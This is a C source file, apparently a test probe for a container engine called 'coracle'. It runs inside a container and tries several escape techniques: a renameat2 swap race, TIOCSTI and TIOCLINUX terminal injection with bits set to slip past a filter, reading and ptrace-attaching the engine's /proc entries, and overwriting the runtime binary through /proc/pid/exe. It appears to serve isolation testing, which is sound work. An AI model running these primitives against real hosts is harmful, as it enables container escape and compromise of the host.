/* A hostile program in a container. `hostile flip A B`: lets two names change their places for ever, as fast as the kernel
 * can; `hostile type`: tries to put a character into the input of every terminal that it holds; `hostile spy`: looks into the
 * engine's processes; `hostile catch`: writes to the engine's program; `hostile status`: what it may do. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int flip(const char *a, const char *b) {
    puts("flipping");
    fflush(stdout);
    for (;;)
        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) != 0 && errno != ENOENT) return 1;
}

/* TIOCSTI, the same with bits that a filter on 64 might overlook, and TIOCLINUX with its request to paste, plain and with such bits. */
static void type_into(int fd) {
    const unsigned long requests[] = {0x5412, 0x5412 | 1UL << 32, 0x541C, 0x541C | 1UL << 32};
    for (int i = 0; i < 4; i++) {
        char what = i >= 2 ? 3 : 'Z';
        if (syscall(SYS_ioctl, fd, requests[i], &what) == 0) printf("typed by %#lx into %d\n", requests[i], fd);
    }
}

/* Calls `look` with the number of every process that is in sight, over and over. */
static int watch(const char *what, void (*look)(int pid)) {
    puts(what);
    fflush(stdout);
    for (;;) {
        DIR *all = opendir("/proc");
        if (!all) return 1;
        for (struct dirent *entry; (entry = readdir(all));)
            if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != getpid()) look(atoi(entry->d_name));
        closedir(all);
        fflush(stdout);
    }
}

static const char *of(int pid, const char *name) {
    static char path[64];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, name);
    return path;
}

/* Whether the process is the engine's, and not yet the command that it is to become. */
static int is_engine(int pid) {
    char name[16] = "";
    int fd = open(of(pid, "comm"), O_RDONLY);
    if (fd < 0) return 0;
    ssize_t count = read(fd, name, sizeof name - 1);
    close(fd);
    return count > 0 && !strncmp(name, "coracle", 7);
}

/* What is to be had of such a process: its files, its memory, itself. It counts if the process is the engine's afterwards, too. */
static void spy(int pid) {
    static int last;
    static const char *const links[] = {"exe", "cwd", "root", "fd/0", "fd/3", "ns/mnt"};
    static const char *const files[] = {"environ", "mem", "maps", "auxv"};
    char target[256];
    if (!is_engine(pid)) return;
    if (pid != last) puts("seen");
    last = pid;
    for (int i = 0; i < 6; i++)
        if (readlink(of(pid, links[i]), target, sizeof target) >= 0 && is_engine(pid)) printf("found its %s\n", links[i]);
    for (int i = 0; i < 4; i++) {
        int fd = open(of(pid, files[i]), O_RDONLY);
        if (fd < 0) continue;
        if (read(fd, target, 1) > 0 && is_engine(pid)) printf("found its %s\n", files[i]);
        close(fd);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        if (is_engine(pid)) puts("found it, to be traced");
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, 0, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

/* Holds on to the file of a program that is neither this one nor the image's; gives it another mode, and writes to it as soon as
 * nobody runs it any more. */
static void catch(int pid) {
    static struct stat own, shell, found;
    char path[64];
    if (!own.st_ino) (void)(stat("/proc/self/exe", &own) || stat("/bin/busybox", &shell));
    int file = open(of(pid, "exe"), O_PATH);
    if (file < 0) return;
    if (fstat(file, &found) == 0 && found.st_ino != own.st_ino && found.st_ino != shell.st_ino) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", file);
        puts(chmod(path, 0777) == 0 ? "changed" : "caught");
        int writing = -1;
        for (int tries = 0; tries < 2000 && (writing = open(path, O_WRONLY | O_APPEND)) < 0 && errno == ETXTBSY; tries++)
            usleep(1000);
        puts(writing >= 0 && write(writing, "x", 1) == 1 ? "written" : strerror(errno));
        close(writing);
    }
    close(file);
}

int main(int argc, char **argv) {
    if (argc == 4 && !strcmp(argv[1], "flip")) return flip(argv[2], argv[3]);
    if (argc == 2 && !strcmp(argv[1], "type")) {
        for (int fd = 0; fd < 3; fd++) type_into(fd);
        int tty = open("/dev/tty", O_RDWR);
        if (tty >= 0) type_into(tty);
        puts("tried");
        return 0;
    }
    if (argc == 2 && !strcmp(argv[1], "spy")) return watch("spying", spy);
    if (argc == 2 && !strcmp(argv[1], "catch")) return watch("catching", catch);
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status))
        if (!strncmp(line, "Cap", 3)) fputs(line, stdout);
    return status ? 0 : 1;
}
